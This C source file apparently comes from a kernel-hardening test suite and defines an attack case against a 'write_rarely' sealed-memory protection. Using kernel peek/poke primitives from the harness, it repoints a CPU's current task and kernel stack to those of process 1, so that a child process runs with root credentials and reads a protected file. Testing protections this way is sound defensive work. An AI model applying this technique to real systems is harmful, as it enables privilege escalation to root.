// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "stack_of_root", "write_rarely: write to sealed memory outside a window",
       "While a child runs in user mode on the other CPU, the program tells that CPU that "
       "process 1 is running there, on the kernel stack of process 1.",
       "Which stack a processor takes for its program's calls stands in sealed memory.",
       "The child's calls are those of root.");

struct shared {
	volatile bool spinning, go, done, won;
};

static bool control(void)
{
	return is_ordinary();
}

static _Noreturn void spin_and_read(struct shared *shared)
{
	char bytes[sizeof(SECRET) - 1] = { 0 };
	long file;

	(void)own_cpu(1);
	shared->spinning = true;
	while (!shared->go)
		__asm__ volatile("pause");
	file = call3(__NR_open, (long)PRIZE, O_RDONLY, 0);
	if (file >= 0)
		call3(__NR_read, file, (long)bytes, sizeof(bytes));
	shared->won = bytes_equal(bytes, SECRET, sizeof(bytes));
	shared->done = true;
	for (;;)
		__asm__ volatile("pause");
}

static bool fire(void)
{
	struct shared *shared =
		(struct shared *)call6(__NR_mmap, 0, 4096, PROT_READ | PROT_WRITE,
				       MAP_SHARED | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	const uint64_t init = init_task(own_task()), cpu = own_cpu(1);
	const uint64_t top = peek(init + member("task.stack_top"));
	const uint64_t stack =
		symbol("own_stacks") + member("own_stack.SIZE") + member("own_stack.stack_top");
	const long id = fork_program();
	uint64_t task, own_top;

	if (id == 0)
		spin_and_read(shared);
	(void)own_cpu(0);
	while (!shared->spinning)
		__asm__ volatile("pause");
	task = peek(cpu + member("cpu.current"));
	own_top = peek(stack);
	poke(cpu + member("cpu.current"), init);
	poke(stack, top);
	shared->go = true;
	for (unsigned int i = 0; i < 100000000 && !shared->done; i++)
		__asm__ volatile("pause");
	poke(cpu + member("cpu.current"), task);
	poke(stack, own_top);
	return shared->won;
}

static void victim(void)
{
	victim_waits();
}
